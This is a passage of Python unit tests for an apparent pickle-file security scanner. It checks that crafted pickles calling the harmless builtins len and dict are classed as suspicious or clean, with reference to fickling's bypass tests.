    # resolved to cls, torch.nn.modules.linear.Linear is on the allowlist
    _clean(tmp_path, "model_legacy_pickle.pth", buf.getvalue())


def test_safe_builtin_len_call(tmp_path: Path) -> None:
    # fickling test/test_bypasses.py test_safe_builtins_not_flagged: fickling calls it safe.
    # Suspicious on purpose: the allowlist holds the callables ML pickles use, and a model
    # pickle has no reason to call len
    data = g0("builtins", "len") + b"]" + TUPLE1 + REDUCE + STOP
    _expect(tmp_path, "len.pkl", data, "suspicious", "pickle-unknown-global")


def test_safe_builtin_dict_call(tmp_path: Path) -> None:
    # fickling test/test_bypasses.py test_safe_builtin_dict_not_flagged
    _clean(tmp_path, "dict.pkl", g0("builtins", "dict") + EMPTY_TUPLE + REDUCE + STOP)
